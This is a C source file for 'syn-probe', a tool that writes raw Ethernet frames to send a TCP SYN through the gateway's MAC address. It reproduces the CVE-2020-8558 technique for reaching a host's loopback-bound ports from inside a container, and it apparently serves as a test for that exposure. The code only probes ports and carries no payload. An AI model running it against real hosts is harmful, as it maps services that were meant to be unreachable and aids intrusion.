/*
 * syn-probe: asks whether a TCP port answers, the way a hostile container would reach its host's
 * loopback (CVE-2020-8558). Inside the container, 127.0.0.1 routes to the container's own `lo`, so
 * the probe does not use IP routing for it: it writes a whole Ethernet frame (AF_PACKET, needs
 * CAP_NET_RAW, which Docker's default capabilities include) to the gateway's MAC address, carrying a
 * TCP SYN to DST_IP:DST_PORT from the interface's own address, and reads frames until a TCP segment
 * from DST_IP:DST_PORT to its source port comes back. The gateway's MAC address comes from the
 * kernel's neighbour table, after a UDP datagram to the gateway made the kernel resolve it.
 *
 *   syn-probe IFNAME GATEWAY_IP DST_IP DST_PORT [TIMEOUT_MS]
 *
 * Prints one line and exits: `SYN-ACK` (0, the port listens), `RST` (3, the host answered: the
 * port is closed), `no answer` (1), or an error (2). The SYN is sent again every 250 ms.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void die(const char *what) {
  printf("error: %s: %s\n", what, strerror(errno));
  exit(2);
}

static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
  const uint8_t *p = data;
  for (; len > 1; p += 2, len -= 2) sum += (uint32_t)p[0] << 8 | p[1];
  if (len) sum += (uint32_t)p[0] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static long now_ms(void);

/* The MAC address of `ip` on `ifname` from /proc/net/arp, after a datagram made the kernel ask. */
static int resolve_mac(const char *ifname, const char *ip, uint8_t mac[6]) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
  if (inet_pton(AF_INET, ip, &to.sin_addr) != 1) return -1;
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return -1;
  long deadline = now_ms() + 2000;
  int found = -1;
  while (found < 0 && now_ms() < deadline) {
    sendto(fd, "", 0, 0, (struct sockaddr *)&to, sizeof to);
    usleep(20000);
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f) break;
    char line[256], addr[64], hw[64], dev[64];
    unsigned type, flags;
    while (fgets(line, sizeof line, f)) {
      if (sscanf(line, "%63s 0x%x 0x%x %63s %*s %63s", addr, &type, &flags, hw, dev) != 5) continue;
      if (strcmp(addr, ip) != 0 || strcmp(dev, ifname) != 0 || !(flags & 0x2)) continue;
      if (sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) found = 0;
    }
    fclose(f);
  }
  close(fd);
  return found;
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: syn-probe IFNAME GATEWAY_IP DST_IP DST_PORT [TIMEOUT_MS]\n");
    return 2;
  }
  const char *ifname = argv[1];
  uint8_t gw[6];
  if (resolve_mac(ifname, argv[2], gw) != 0) {
    printf("error: no MAC address for gateway %s on %s\n", argv[2], ifname);
    return 2;
  }
  struct in_addr dst;
  if (inet_pton(AF_INET, argv[3], &dst) != 1) {
    fprintf(stderr, "bad IPv4 address %s\n", argv[3]);
    return 2;
  }
  uint16_t dport = (uint16_t)atoi(argv[4]);
  long timeout = argc > 5 ? atol(argv[5]) : 2000;

  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) die("socket(AF_PACKET)");
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) die("SIOCGIFINDEX");
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) die("SIOCGIFHWADDR");
  uint8_t own_mac[6];
  memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
  int ufd = socket(AF_INET, SOCK_DGRAM, 0);
  if (ufd < 0 || ioctl(ufd, SIOCGIFADDR, &ifr) < 0) die("SIOCGIFADDR");
  struct in_addr src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  close(ufd);

  struct sockaddr_ll ll;
  memset(&ll, 0, sizeof ll);
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_IP);
  ll.sll_ifindex = ifindex;
  if (bind(fd, (struct sockaddr *)&ll, sizeof ll) < 0) die("bind");
  ll.sll_halen = 6;
  memcpy(ll.sll_addr, gw, 6);

  srand((unsigned)(getpid() ^ now_ms()));
  uint16_t sport = (uint16_t)(20000 + rand() % 40000);
  uint32_t seq = (uint32_t)rand();

  /* Ethernet (14) + IPv4 (20) + TCP (20). */
  uint8_t frame[54];
  memset(frame, 0, sizeof frame);
  memcpy(frame, gw, 6);
  memcpy(frame + 6, own_mac, 6);
  frame[12] = 0x08;
  frame[13] = 0x00;
  uint8_t *ip = frame + 14;
  ip[0] = 0x45;
  ip[2] = 0;
  ip[3] = 40;
  ip[4] = (uint8_t)(rand() & 0xff);
  ip[6] = 0x40; /* don't fragment */
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  memcpy(ip + 12, &src, 4);
  memcpy(ip + 16, &dst, 4);
  uint16_t ipsum = checksum(ip, 20, 0);
  memcpy(ip + 10, &ipsum, 2);
  uint8_t *tcp = ip + 20;
  uint16_t nsport = htons(sport), ndport = htons(dport);
  uint32_t nseq = htonl(seq);
  memcpy(tcp, &nsport, 2);
  memcpy(tcp + 2, &ndport, 2);
  memcpy(tcp + 4, &nseq, 4);
  tcp[12] = 5 << 4;
  tcp[13] = 0x02; /* SYN */
  tcp[14] = 0xfa;
  tcp[15] = 0xf0;
  uint8_t pseudo[12];
  memcpy(pseudo, &src, 4);
  memcpy(pseudo + 4, &dst, 4);
  pseudo[8] = 0;
  pseudo[9] = IPPROTO_TCP;
  pseudo[10] = 0;
  pseudo[11] = 20;
  uint32_t partial = 0;
  for (int i = 0; i < 12; i += 2) partial += (uint32_t)pseudo[i] << 8 | pseudo[i + 1];
  uint16_t tcpsum = checksum(tcp, 20, partial);
  memcpy(tcp + 16, &tcpsum, 2);

  long deadline = now_ms() + timeout;
  long next_send = 0;
  for (;;) {
    long t = now_ms();
    if (t >= deadline) break;
    if (t >= next_send) {
      if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&ll, sizeof ll) < 0) die("sendto");
      next_send = t + 250;
    }
    long wait = (next_send < deadline ? next_send : deadline) - t;
    struct pollfd pfd = {.fd = fd, .events = POLLIN};
    if (poll(&pfd, 1, (int)wait) <= 0) continue;
    uint8_t buf[2048];
    struct sockaddr_ll from;
    socklen_t fromlen = sizeof from;
    ssize_t n = recvfrom(fd, buf, sizeof buf, 0, (struct sockaddr *)&from, &fromlen);
    if (n < 14 + 20 + 20 || from.sll_pkttype == PACKET_OUTGOING) continue;
    uint8_t *rip = buf + 14;
    if ((rip[0] >> 4) != 4 || rip[9] != IPPROTO_TCP || memcmp(rip + 12, &dst, 4) != 0) continue;
    uint8_t *rtcp = rip + (rip[0] & 0x0f) * 4;
    if (rtcp + 20 > buf + n) continue;
    if (memcmp(rtcp, &ndport, 2) != 0 || memcmp(rtcp + 2, &nsport, 2) != 0) continue;
    if ((rtcp[13] & 0x12) == 0x12) {
      puts("SYN-ACK");
      return 0;
    }
    if (rtcp[13] & 0x04) {
      puts("RST");
      return 3;
    }
  }
  puts("no answer");
  return 1;
}
